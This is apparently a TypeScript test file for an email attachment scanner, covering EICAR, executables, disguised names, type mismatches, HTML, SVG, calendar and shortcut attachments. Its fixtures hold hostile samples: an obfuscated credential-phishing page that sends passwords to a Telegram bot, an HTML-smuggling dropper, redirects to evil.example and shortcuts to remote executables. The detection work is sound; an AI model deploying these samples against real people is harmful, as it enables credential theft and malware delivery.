/**
 * The attachment inspector on single files: what innocent attachments score (nothing), hashes and
 * verdicts, EICAR, executable and script types, disguised names, type mismatches, attached pages,
 * SVGs, calendar invitations, Windows shortcuts and Apple profiles.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import jpeg from 'jpeg-js';
import { ATTACHMENT_POINTS } from '../../src/analysis/attachments/index.ts';
import { EICAR } from '../../src/analysis/attachments/eicar.ts';
import { PNG_1X1, windowsExecutable } from '../fixtures/mime/generate.ts';
import { attachment, docx, plainPdf } from '../fixtures/attachments/documents.ts';
import { description, inspect, prng } from '../fixtures/attachments/support.ts';
import { buildZip } from '../fixtures/attachments/zip.ts';

function photoJpeg(): Buffer {
  const random = prng(11);
  const data = Buffer.alloc(120 * 90 * 4);
  for (let i = 0; i < data.length; i++) data[i] = i % 4 === 3 ? 255 : (random() * 64 + (i % 4) * 60) | 0;
  return jpeg.encode({ width: 120, height: 90, data }, 80).data;
}

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
const MACHO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(120)]);

describe('innocent attachments', () => {
  it('score nothing: a PDF, a JPEG, inline newsletter images, a .docx, a text file, a signature, a zip of documents', async () => {
    const outcome = await inspect([
      await attachment('report.pdf', plainPdf(), { declared: 'application/pdf' }),
      await attachment('photo.jpg', photoJpeg(), { declared: 'image/jpeg' }),
      await attachment('logo.png', PNG_1X1, { inline: true, declared: 'image/png' }),
      await attachment(null, photoJpeg(), { inline: true }),
      await attachment('minutes.docx', docx()),
      await attachment('notes.txt', 'Agenda for Tuesday\n'),
      await attachment('signature.asc', '-----BEGIN PGP SIGNATURE-----\nabc\n-----END PGP SIGNATURE-----\n', { declared: 'application/pgp-signature' }),
      await attachment('papers.zip', buildZip([{ name: 'a.pdf', data: plainPdf() }, { name: 'b.txt', data: Buffer.from('hello') }])),
      await attachment('screenshot.png', PNG_1X1, { declared: 'image/jpeg' }),
    ]);
    assert.deepEqual(outcome.findings, []);
    assert.deepEqual(outcome.cuts, []);
    assert.ok(outcome.verdicts.every((v) => !v.malwareDetected && v.threatName === null));
  });
});

describe('hashes and verdicts', () => {
  it('gives one verdict per attachment, in order, with SHA-256, SHA-1 and MD5, and lists SHA-256 hashes (inner files too) as IOCs', async () => {
    const inner = Buffer.from('inner file');
    const files = [await attachment('a.txt', 'first'), await attachment('b.zip', buildZip([{ name: 'inner.txt', data: inner }])), await attachment('c.txt', 'third')];
    const outcome = await inspect(files);
    const hex = (algorithm: string, bytes: Buffer): string => createHash(algorithm).update(bytes).digest('hex');
    assert.deepEqual(outcome.verdicts, files.map((f) => ({
      sha256: hex('sha256', f.content), sha1: hex('sha1', f.content), md5: hex('md5', f.content), malwareDetected: false, threatName: null,
    })));
    assert.deepEqual(outcome.iocs.hashes.sort(), [...files.map((f) => f.sha256), hex('sha256', inner)].sort());
  });
});

describe('EICAR test file', () => {
  it('is decisive malware with threat name EICAR-Test-File, also with trailing white space', async () => {
    for (const content of [EICAR, `${EICAR}\r\n`, `${EICAR}   \t`]) {
      const outcome = await inspect([await attachment('eicar.com', content)]);
      assert.deepEqual(outcome.verdicts[0]?.threatName, 'EICAR-Test-File');
      assert.equal(outcome.verdicts[0]?.malwareDetected, true);
      assert.ok(outcome.points.malware >= 60);
      assert.match(description(outcome, 'eicar_test_file'), /"eicar\.com" is the EICAR anti-virus test file/);
    }
  });

  it('is found inside a zip, marking the zip', async () => {
    const outcome = await inspect([await attachment('test.zip', buildZip([{ name: 'eicar.txt', data: Buffer.from(EICAR) }]))]);
    assert.equal(outcome.verdicts[0]?.threatName, 'EICAR-Test-File');
    assert.match(description(outcome, 'eicar_test_file'), /test\.zip › eicar\.txt/);
  });

  it('is not matched when other content follows or precedes it', async () => {
    for (const content of [`${EICAR}x`, ` ${EICAR}`, `${EICAR}${' '.repeat(80)}`]) {
      const outcome = await inspect([await attachment('x.txt', content)]);
      assert.equal(outcome.verdicts[0]?.malwareDetected, false, JSON.stringify(content));
    }
  });
});

describe('executable and script attachments', () => {
  it('flags programs by their bytes, whatever their name', async () => {
    for (const [name, bytes] of [['invoice.exe', windowsExecutable()], ['setup', ELF], ['app.bin', MACHO]] as const) {
      const outcome = await inspect([await attachment(name, bytes)]);
      assert.ok(outcome.types.includes('attachment_executable'), `${name}: ${outcome.types.join(',')}`);
      assert.ok(outcome.points.malware >= 60);
    }
  });

  it('flags a program named like a PDF as both an executable and a type mismatch', async () => {
    const outcome = await inspect([await attachment('invoice.pdf', windowsExecutable(), { declared: 'application/pdf' })]);
    assert.deepEqual(outcome.types, ['attachment_executable', 'attachment_type_mismatch']);
    assert.match(description(outcome, 'attachment_type_mismatch'), /"invoice\.pdf" is really an executable program but its name claims a PDF/);
  });

  it('flags scripts and shortcuts by their extension', async () => {
    for (const name of ['run.js', 'update.vbs', 'x.ps1', 'page.hta', 'go.bat', 'readme.lnk', 'a.wsf', 'b.jse', 'c.cmd']) {
      const outcome = await inspect([await attachment(name, 'WScript.Echo("hi")\r\n')]);
      assert.deepEqual(outcome.types, ['attachment_script'], name);
    }
  });

  it('flags Java/Android packages, disk images and OneNote notebooks', async () => {
    const iso = Buffer.alloc(40_000);
    iso.write('CD001', 0x8001, 'latin1');
    const onenote = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(200)]);
    const cases: [string, Buffer, string][] = [
      ['tool.jar', buildZip([{ name: 'META-INF/MANIFEST.MF', data: Buffer.from('Manifest-Version: 1.0\n') }, { name: 'a/Main.class', data: Buffer.from([0xca, 0xfe, 0xba, 0xbe]) }]), 'attachment_java_or_android'],
      ['document.pdf', iso, 'attachment_disk_image'],
      ['notes.one', onenote, 'attachment_onenote'],
      ['disk.vhdx', Buffer.concat([Buffer.from('vhdxfile'), Buffer.alloc(100)]), 'attachment_disk_image'],
    ];
    for (const [name, bytes, type] of cases) {
      const outcome = await inspect([await attachment(name, bytes)]);
      assert.ok(outcome.types.includes(type), `${name}: ${outcome.types.join(',')}`);
    }
  });
});

describe('disguised names', () => {
  it('flags double extensions, including blanks padding the real extension out of view', async () => {
    const outcome = await inspect([await attachment('invoice.pdf.exe', windowsExecutable())]);
    assert.deepEqual(outcome.types, ['attachment_double_extension', 'attachment_executable']);
    const padded = await inspect([await attachment('invoice.pdf                    .exe', windowsExecutable())]);
    assert.match(description(padded, 'attachment_double_extension'), /padded with blanks/);
    const page = await inspect([await attachment('Remittance.pdf.html', '<html><body>Pay</body></html>')]);
    assert.deepEqual(page.types, ['attachment_double_extension', 'html_attachment']);
    const archive = await inspect([await attachment('scan.pdf.zip', buildZip([{ name: 'scan.pdf', data: plainPdf() }]))]);
    assert.deepEqual(archive.types, ['attachment_double_extension_archive']);
  });

  it('flags a right-to-left override hiding an executable extension, showing the control character', async () => {
    const outcome = await inspect([await attachment('invoice\u202Efdp.exe', windowsExecutable())]);
    assert.deepEqual(outcome.types, ['attachment_bidi_name', 'attachment_executable']);
    assert.match(description(outcome, 'attachment_bidi_name'), /invoice<U\+202E>fdp\.exe.*real extension is "\.exe"/);
  });

  it('does not flag ordinary dotted names', async () => {
    const outcome = await inspect([await attachment('report.v2.final.pdf', plainPdf()), await attachment('photo.2024.01.jpg', photoJpeg())]);
    assert.deepEqual(outcome.types, []);
  });
});

describe('type mismatch', () => {
  it('flags a zip or a web page claiming to be a PDF, by name or by declared type', async () => {
    const zip = await inspect([await attachment('statement.pdf', buildZip([{ name: 'a.txt', data: Buffer.from('x') }]))]);
    assert.deepEqual(zip.types, ['attachment_type_mismatch']);
    const page = await inspect([await attachment('statement', '<!DOCTYPE html><html><body>x</body></html>', { declared: 'application/pdf' })]);
    assert.ok(page.types.includes('attachment_type_mismatch'));
    assert.match(description(page, 'attachment_type_mismatch'), /declared as a PDF/);
  });

  it('ignores harmless mix-ups (an image of another image format, text with a text extension)', async () => {
    const outcome = await inspect([await attachment('picture.png', photoJpeg(), { declared: 'image/png' }), await attachment('data.yml', 'a: 1\n', { declared: 'application/octet-stream' })]);
    assert.deepEqual(outcome.types, []);
  });
});

describe('attached pages and SVGs', () => {
  it('scores a plain attached page moderately', async () => {
    const outcome = await inspect([await attachment('message.html', '<html><body><p>Your document is ready.</p><a href="https://docs.example.com/x">open</a></body></html>')]);
    assert.deepEqual(outcome.types, ['html_attachment']);
    assert.deepEqual(outcome.iocs.urls, ['https://docs.example.com/x']);
    assert.deepEqual(outcome.iocs.domains, ['docs.example.com']);
  });

  it('flags a credential form posting to a remote address', async () => {
    const outcome = await inspect([await attachment('login.htm', '<html><form action="https://203.0.113.9/post.php" method="post"><input type="email" name="u"><input type="password" name="p"></form></html>')]);
    assert.deepEqual(outcome.types, ['html_attachment', 'html_attachment_credential_form', 'html_attachment_remote_form']);
    assert.ok(outcome.points.phishing >= 60);
    assert.deepEqual(outcome.iocs.ips, ['203.0.113.9']);
  });

  it('finds the form inside an atob()/unescape() wrapped page and a Telegram exfiltration script', async () => {
    const inner = '<form><input type="password" id="pw"></form><script>fetch("https://api.telegram.org/bot123/sendMessage?text="+pw.value)</script>';
    const wrapped = `<script>document.write(unescape('${encodeURIComponent(`<div><script>document.write(atob("${Buffer.from(inner).toString('base64')}"))</scr` + 'ipt></div>')}'))</script>`;
    const outcome = await inspect([await attachment('Email.htm', wrapped)]);
    assert.deepEqual(outcome.types, ['html_attachment', 'html_attachment_credential_form', 'html_attachment_remote_form', 'html_attachment_script']);
    assert.match(description(outcome, 'html_attachment_remote_form'), /Telegram bot/);
    assert.match(description(outcome, 'html_attachment_script'), /obfuscated/);
  });

  it('flags a redirecting page and HTML smuggling', async () => {
    const redirect = await inspect([await attachment('r.html', '<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/r"></head></html>')]);
    assert.ok(redirect.types.includes('html_attachment_redirect'));
    assert.ok(redirect.iocs.urls.includes('https://evil.example/r'));
    const smuggling = await inspect([await attachment('invoice.html', '<script>var b=new Blob([atob(d)],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click();</script>')]);
    assert.ok(smuggling.types.includes('html_smuggling'));
    assert.ok(smuggling.points.malware >= 45);
  });

  it('flags an SVG carrying script but not an inline SVG image without it', async () => {
    const scripted = await inspect([await attachment('fax.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'https://evil.example/s\'"><script>alert(1)</script></svg>')]);
    assert.ok(scripted.types.includes('svg_attachment_script'));
    const logo = await inspect([await attachment('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>', { inline: true })]);
    assert.deepEqual(logo.types, []);
    const attached = await inspect([await attachment('drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>')]);
    assert.deepEqual(attached.types, ['svg_attachment']);
  });
});

describe('calendar invitations, shortcuts and profiles', () => {
  it('flags an invitation with links (unfolded) and lists them as IOCs; one without links is nothing', async () => {
    const ics = ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'SUMMARY:Payroll update', 'DESCRIPTION:Confirm at https://payroll.evil.exa', ' mple/confirm\\, today', 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
    const outcome = await inspect([await attachment('invite.ics', ics, { declared: 'text/calendar' })]);
    assert.deepEqual(outcome.types, ['calendar_links']);
    assert.deepEqual(outcome.iocs.urls, ['https://payroll.evil.example/confirm']);
    const plain = await inspect([await attachment('invite.ics', 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n')]);
    assert.deepEqual(plain.types, []);
  });

  it('flags .url shortcuts to file shares (also by content under another name), .library-ms and .mobileconfig; a .url to a web page is weak', async () => {
    const url = await inspect([await attachment('Document.url', '[InternetShortcut]\r\nURL=file://198.51.100.4@80/share/invoice.exe\r\n')]);
    assert.deepEqual(url.types, ['attachment_internet_shortcut']);
    const disguised = await inspect([await attachment('readme.txt', '[InternetShortcut]\r\nURL=file://\\\\203.0.113.3\\share\\x.hta\r\n')]);
    assert.deepEqual(disguised.types, ['attachment_internet_shortcut']);
    const web = await inspect([await attachment('Article.url', '[InternetShortcut]\r\nURL=https://news.example.org/story\r\n')]);
    assert.deepEqual(web.types, ['attachment_web_shortcut']);
    assert.deepEqual(web.iocs.urls, ['https://news.example.org/story']);
    assert.ok(web.points.phishing < 10 && web.points.malware === 0);
    const library = await inspect([await attachment('Docs.library-ms', '<?xml version="1.0"?><libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>https://203.0.113.5/webdav</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>')]);
    assert.deepEqual(library.types, ['attachment_internet_shortcut']);
    const profile = await inspect([await attachment('wifi.mobileconfig', '<?xml version="1.0"?><plist><dict><key>PayloadType</key><string>Configuration</string></dict></plist>')]);
    assert.deepEqual(profile.types, ['attachment_mobileconfig']);
  });
});

describe('the points table', () => {
  it('keeps every weight on the documented scale, decisive findings at 60 or more', () => {
    for (const [type, points] of Object.entries(ATTACHMENT_POINTS)) {
      for (const value of Object.values(points)) assert.ok(value >= 3 && value <= 100, `${type}: ${value}`);
    }
    for (const type of ['eicar_test_file', 'clamav_detection', 'archive_executable', 'macro_auto_exec', 'attachment_executable', 'attachment_script'] as const) {
      assert.ok(ATTACHMENT_POINTS[type].malware >= 60, type);
    }
  });
});

describe('ClamAV configuration', () => {
  it('reads CLAMD_SOCKET or CLAMD_HOST/CLAMD_PORT with their defaults, and refuses both at once', async () => {
    const { loadConfig, ConfigError } = await import('../../src/config.ts');
    const { clamdFromConfig } = await import('../../src/analysis/attachments/index.ts');
    assert.equal(loadConfig({}).clamd, null);
    assert.equal(clamdFromConfig(loadConfig({}).clamd), null);
    assert.deepEqual(loadConfig({ CLAMD_SOCKET: '/run/clamav/clamd.ctl' }).clamd, { socketPath: '/run/clamav/clamd.ctl', host: undefined, port: 3310, timeoutMs: 10_000 });
    const tcp = clamdFromConfig(loadConfig({ CLAMD_HOST: 'clamav.internal', CLAMD_PORT: '3311', CLAMD_TIMEOUT_MS: '2500' }).clamd);
    assert.equal(tcp?.address, 'clamav.internal:3311');
    assert.equal(tcp?.options.timeoutMs, 2500);
    assert.throws(() => loadConfig({ CLAMD_SOCKET: '/x', CLAMD_HOST: 'y' }), (err: unknown) => err instanceof ConfigError && /CLAMD_SOCKET .* or CLAMD_HOST .*, not both/.test(err.message));
  });
});
